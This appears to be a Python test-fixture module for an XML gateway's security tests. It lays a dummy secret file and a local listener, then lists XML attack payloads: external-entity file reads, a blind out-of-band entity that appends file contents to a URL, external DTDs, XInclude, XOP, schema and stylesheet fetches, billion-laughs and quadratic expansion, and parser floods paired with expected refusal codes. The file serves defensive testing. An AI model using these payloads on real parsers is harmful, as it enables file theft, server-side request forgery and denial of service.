"""What XML can be made to do: payloads with the secret they are after, and a listener that counts who calls.

A payload is made for a file whose content must not come back, and for an address that must not be called. The same
payloads go to the gateway and to a node in a question, and come to the gateway in a region's answer.
"""

import asyncio
import contextlib
import resource
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path

SECRET = "le-contenu-du-fichier-secret"

XI = "http://www.w3.org/2001/XInclude"
XSI = "http://www.w3.org/2001/XMLSchema-instance"


@dataclass(slots=True)
class Bait:
    """A file with the secret, a DTD that reads it, and a listener; ``calls`` are the first lines of who called."""

    folder: Path
    port: int
    calls: list[bytes] = field(default_factory=list)

    @property
    def file(self) -> str:
        """The file's address."""
        return (self.folder / "secret.txt").as_uri()

    @property
    def dtd(self) -> str:
        """A DTD on disk that puts the file into ``&secret;``."""
        return (self.folder / "evil.dtd").as_uri()

    @property
    def url(self) -> str:
        """An address that must not be called."""
        return f"http://127.0.0.1:{self.port}/piege"


@asynccontextmanager
async def baited(folder: Path) -> AsyncIterator[Bait]:
    """Lay the bait."""
    (folder / "secret.txt").write_text(SECRET)
    calls: list[bytes] = []

    async def called(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        calls.append(b"")
        with contextlib.suppress(ConnectionError):
            calls[-1] = await reader.readline()
            writer.write(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n" + SECRET.encode())
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(called, "127.0.0.1", 0)
    bait = Bait(folder, server.sockets[0].getsockname()[1], calls)
    (folder / "evil.dtd").write_text(f'<!ENTITY secret SYSTEM "{bait.file}">')
    try:
        yield bait
    finally:
        server.close()
        await server.wait_closed()


def laughs(depth: int) -> str:
    """Entities of ten of the one before."""
    entities = ['<!ENTITY e0 "ha">']
    entities += [f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, depth)]
    return "".join(entities)


DOCTYPES: dict[str, Callable[[Bait], tuple[str, str]]] = {
    "a file": lambda bait: (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.file}">]>', "&e;"),
    "an address": lambda bait: (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.url}">]>', "&e;"),
    "a public identifier": lambda bait: (f'<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "{bait.url}">]>', "&e;"),
    "a parameter entity": lambda bait: (
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{bait.dtd}"> %p;]>',
        "&secret;",
    ),
    "a parameter entity that calls": lambda bait: (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{bait.url}"> %p;]>', ""),
    "blind, by a parameter entity": lambda bait: (
        f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{bait.file}">'
        f"<!ENTITY % a \"<!ENTITY &#37; b SYSTEM '{bait.url}?%f;'>\"> %a; %b;]>",
        "",
    ),
    "an external DTD": lambda bait: (f'<!DOCTYPE x SYSTEM "{bait.dtd}">', "&secret;"),
    "an external DTD that calls": lambda bait: (f'<!DOCTYPE x SYSTEM "{bait.url}">', ""),
    "a billion laughs": lambda _: (f"<!DOCTYPE x [{laughs(10)}]>", "&e9;"),
    "quadratic growth": lambda _: (f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>', "&e;" * 20_000),
    "an entity of itself": lambda _: ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "default attributes": lambda _: ('<!DOCTYPE x [<!ATTLIST organization code CDATA "121">]>', ""),
    "nothing": lambda _: ("<!DOCTYPE x>", ""),
}
"""Prolog, and text for some element."""

INSIDE: dict[str, Callable[[Bait], str]] = {
    "an inclusion as text": lambda bait: f'<xi:include xmlns:xi="{XI}" href="{bait.file}" parse="text"/>',
    "an inclusion from an address": lambda bait: f'<xi:include xmlns:xi="{XI}" href="{bait.url}"/>',
    "an inclusion with a way out": lambda bait: (
        f'<xi:include xmlns:xi="{XI}" href="file:///nowhere">'
        f'<xi:fallback><xi:include href="{bait.url}"/></xi:fallback></xi:include>'
    ),
    "an attachment from a file": lambda bait: f'<x:Include xmlns:x="{XOP}" href="{bait.file}"/>',
    "an attachment from an address": lambda bait: f'<x:Include xmlns:x="{XOP}" href="{bait.url}"/>',
    "an attachment elsewhere": lambda _: f'<x:Include xmlns:x="{XOP}" href="cid:../../secret.txt"/>',
    "an import of WSDL": lambda bait: f'<w:import xmlns:w="{WSDL}" namespace="urn:x" location="{bait.url}"/>',
    "an import of a schema": lambda bait: (
        f'<s:import xmlns:s="{XSD}" namespace="urn:x" schemaLocation="{bait.url}"/>'
    ),
    "a stylesheet's document()": lambda bait: (
        f'<t:value-of xmlns:t="http://www.w3.org/1999/XSL/Transform" select="document(\'{bait.url}\')"/>'
    ),
}
"""Elements that some processor would follow."""

XOP = "http://www.w3.org/2004/08/xop/include"
WSDL = "http://schemas.xmlsoap.org/wsdl/"
XSD = "http://www.w3.org/2001/XMLSchema"


FLOODS: dict[str, tuple[bytes, str]] = {
    "depth": (b"<a>" * 30_000 + b"</a>" * 30_000, "request.xml-limit"),
    "depth that never ends": (b"<a>" * 60_000, "request.xml-limit"),
    "siblings": (b"<a/>" * 50_000, "request.xml-limit"),
    "attributes of one element": (
        b"<a " + b" ".join(b'a%d=""' % n for n in range(20_000)) + b"/>",
        "request.xml-limit",
    ),
    "attributes in all": ((b"<a " + b" ".join(b'a%d=""' % n for n in range(60)) + b"/>") * 400, "request.xml-limit"),
    "namespaces": (b"".join(b'<a xmlns:p%d="u%d"/>' % (n, n) for n in range(9_000)), "request.xml-limit"),
    "one namespace again and again": (b'<a xmlns="u"/>' * 15_000, "request.xml-limit"),
    "comments": (b"<!---->" * 30_000, "request.xml-limit"),
    "one long comment": (b"<!--" + b"x" * 200_000 + b"-->", "request.xml-limit"),
    "instructions": (b"<?p?>" * 40_000, "request.processing-instruction"),
    "one long text": (b"x" * 200_000, "request.xml-limit"),
    "text in references": (b"&#120;" * 40_000, "request.xml-limit"),
    "one long id": (b'<a id="' + b"x" * 200_000 + b'"/>', "request.xml-limit"),
    "one long namespace": (b'<a xmlns="urn:' + b"x" * 100_000 + b'"/>', "request.xml-limit"),
    "one long name": (b"<" + b"a" * 200_000 + b"/>", "request.xml-limit"),
    "names made to collide": (
        b"".join(b'<%d %s=""/>'.replace(b"%d", b"a%05x" % n).replace(b"%s", b"b%05x" % n) for n in range(6_000)),
        "request.xml-limit",
    ),
    "text in CDATA": (b"<![CDATA[x]]>" * 18_000, "request.xml-limit"),
}
"""Floods that fit into the size of a question, with what they are refused for."""

HUGE: dict[str, Callable[[], bytes]] = {
    "10^5 deep": lambda: b"<a>" * 10**5 + b"</a>" * 10**5,
    "2x10^5 attributes": lambda: b"<a " + b" ".join(b'a%d=""' % n for n in range(2 * 10**5)) + b"/>",
    "5x10^4 namespaces": lambda: b"<a " + b" ".join(b'xmlns:p%d="u"' % n for n in range(5 * 10**4)) + b"/>",
    "10^6 siblings": lambda: b"<a>" + b"<b/>" * 10**6 + b"</a>",
    "10^6 comments": lambda: b"<a>" + b"<!---->" * 10**6 + b"</a>",
    "one text": lambda: b"<a>" + b"x" * 8_000_000 + b"</a>",
}
"""Floods beyond it, made when they are sent."""


@dataclass(slots=True)
class Cost:
    """What something cost this process: seconds of CPU, and bytes by which its peak of memory grew."""

    cpu_s: float = 0.0
    grown: int = 0


@contextmanager
def costing() -> Iterator[Cost]:
    """Measure coarsely."""
    cost, peak, started = Cost(), _peak(), time.process_time()
    yield cost
    cost.cpu_s, cost.grown = time.process_time() - started, _peak() - peak


def _peak() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
